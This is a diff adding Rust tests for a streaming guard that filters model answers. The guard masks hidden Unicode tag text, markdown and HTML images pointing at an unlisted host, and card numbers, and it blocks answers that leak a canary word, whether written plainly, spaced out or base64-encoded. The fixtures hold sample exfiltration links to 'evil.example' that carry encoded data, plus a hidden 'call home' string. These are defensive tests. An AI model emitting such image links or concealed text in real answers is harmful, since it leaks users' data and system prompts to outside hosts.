@@ -132,3 +132,80 @@ proptest! {
         prop_assert_eq!(inspector.take(), findings);
     }
 }
+
+const GUARDS: &str = "version: 1\nentities:\n  CREDIT_CARD: {class: pci, action: allow, answers: mask}\nguards:\n  - {name: hidden, kind: invisible_text, on: [answers], action: mask}\n  - {name: pictures, kind: exfiltration, on: [answers], action: mask, hosts: [img.example.com]}\n";
+const WITH_CANARY: &str = "version: 1\nentities: {}\nguards:\n  - {name: prompt, kind: canary, on: [answers], action: block, words: [ZEBRA-7719-QUILL]}\n";
+
+fn cut_everywhere(answers: &Answers, text: &str) {
+    let (want, _) = whole(answers, text, false);
+    for first in text.char_indices().map(|(at, _)| at) {
+        for second in [first, text.len().min(first + 7)] {
+            let second = text.ceil_char_boundary(second);
+            let (mut inspector, mut out) = (answers.stream(false), String::new());
+            for piece in [&text[..first], &text[first..second], &text[second..]] {
+                inspector.push(piece, &mut out);
+            }
+            inspector.finish(&mut out);
+            assert_eq!(out, want, "cut at {first} and {second}");
+        }
+    }
+}
+
+#[test]
+fn guards_take_out_the_same_wherever_a_stream_is_cut() {
+    let answers = answers(GUARDS, "");
+    let hidden: String = "call home"
+        .chars()
+        .filter_map(|c| char::from_u32(0xe0000 + u32::from(c)))
+        .collect();
+    let text = format!(
+        "Hello{hidden} there. See ![a picture](https://evil.example/p.png?d=c2VjcmV0) and\n<img src=\"https://evil.example/q?c=1\"> and ![fine](https://img.example.com/ok.png), [1] is 5555 5555 5555 4444. Done [x]."
+    );
+    let (clean, findings) = whole(&answers, &text, false);
+    assert!(
+        clean.starts_with("Hello there. See [removed] and\n"),
+        "{clean}"
+    );
+    assert!(
+        !clean.contains("evil.example") && clean.contains("img.example.com"),
+        "{clean}"
+    );
+    assert!(
+        clean.ends_with("[1] is [CREDIT_CARD]. Done [x]."),
+        "{clean}"
+    );
+    let named: Vec<_> = findings
+        .iter()
+        .map(|one| (&*one.entity, one.action, one.count))
+        .collect();
+    assert!(
+        named.contains(&("pictures", "mask", 2)) && named.contains(&("CREDIT_CARD", "mask", 1)),
+        "{named:?}"
+    );
+    cut_everywhere(&answers, &text);
+}
+
+#[test]
+fn an_answer_ends_at_a_canary_however_it_is_written() {
+    let answers = answers(WITH_CANARY, "");
+    let filler = "word ".repeat(150);
+    for leak in [
+        "ZEBRA-7719-QUILL",
+        "z e b r a 7 7 1 9 q u i l l",
+        "WkVCUkEtNzcxOS1RVUlMTA==",
+    ] {
+        let text = format!("{filler}It says {leak} there. {filler}");
+        let (mut inspector, mut out) = (answers.stream(false), String::new());
+        inspector.push(&text, &mut out);
+        inspector.finish(&mut out);
+        assert_eq!(
+            inspector.blocked().map(|name| &**name),
+            Some("prompt"),
+            "{leak}"
+        );
+        assert!(!out.contains("there."), "{leak}: {out}");
+        cut_everywhere(&answers, &text);
+    }
+    let (same, findings) = whole(&answers, &filler, false);
+    assert_eq!((same, findings.len()), (filler, 0));
+}
